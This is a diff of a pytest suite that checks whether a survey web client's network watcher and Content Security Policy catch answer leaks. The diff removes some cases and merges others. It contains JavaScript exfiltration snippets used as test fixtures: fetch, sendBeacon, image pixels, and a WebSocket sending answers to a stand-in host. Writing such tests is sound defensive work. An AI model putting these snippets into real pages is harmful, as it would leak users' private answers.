@@ -54,12 +54,6 @@ def test_network_carries_no_answer(
     ("name", "old", "new"),
     [
         (FILE, REVIEW, f"fetch('/healthz?' + {ANSWERS}).catch(() => 0);\n{REVIEW}"),
-        (
-            FILE,
-            REVIEW,
-            f"fetch('/s/x', {{method: 'POST', body: {ANSWERS}}}).catch(() => 0);\n{REVIEW}",
-        ),
-        (FILE, REVIEW, f"navigator.sendBeacon('/healthz', {ANSWERS});\n{REVIEW}"),
         (FILE, REVIEW, f"fetch('/healthz?a=' + btoa({ANSWERS})).catch(() => 0);\n{REVIEW}"),
         (
             FILE,
@@ -82,7 +76,7 @@ def test_network_carries_no_answer(
             "'reports', report.text + document.querySelector('#debts--number').value,",
         ),
     ],
-    ids=["query", "body", "beacon", "base64", "navigation", "farewell", "header", "after-report"],
+    ids=["query", "base64", "navigation", "farewell", "header", "after-report"],
 )
 def test_watcher_of_the_network_catches_a_leak(
     new_device: Callable[..., Device],
@@ -124,25 +118,22 @@ def test_watcher_of_the_network_catches_a_leak(
 
 
 @pytest.mark.provokes(POLICY)
-@pytest.mark.parametrize(
-    "leak",
-    [
-        f"new Image().src = '/pixel?' + {ANSWERS};",
-        f"fetch('https://elsewhere.invalid/?' + {ANSWERS}).catch(() => 0);",
-        f"new WebSocket('wss://elsewhere.invalid/?' + btoa({ANSWERS}));",
-    ],
-    ids=["image", "other host", "socket"],
-)
 def test_policy_stops_even_a_leaky_client(
-    device: Device, serve_client: Callable[..., Collector], relay: MakeRelay, leak: str
+    device: Device, serve_client: Callable[..., Collector], relay: MakeRelay
 ) -> None:
-    served = serve_client((FILE, REVIEW, f"try {{ {leak} }} catch {{}}\n{REVIEW}"))
+    leaks = {
+        "/pixel": f"new Image().src = '/pixel?' + {ANSWERS};",
+        "https://elsewhere": f"fetch('https://elsewhere.invalid/?' + {ANSWERS}).catch(() => 0);",
+        "wss://elsewhere": f"new WebSocket('wss://elsewhere.invalid/?' + btoa({ANSWERS}));",
+    }
+    tried = "".join(f"try {{ {leak} }} catch {{}}\n" for leak in leaks.values())
+    served = serve_client((FILE, REVIEW, f"{tried}{REVIEW}"))
     survey, wire = served.publish(SURVEY), relay(served)
     page = device.visit(f"{wire.url}/s/{survey}")
     answer(page, CANARIES)
     leave(device)
     blocked = [line for line in device.console if "Content Security Policy" in line]
-    assert blocked
+    assert [leak for leak in leaks if not any(leak in line for line in blocked)] == []
     assert len(device.posted()) == 1
     check_wire(wire, survey)
     got_out = [one.url for one in device.requests if one.failure is None]
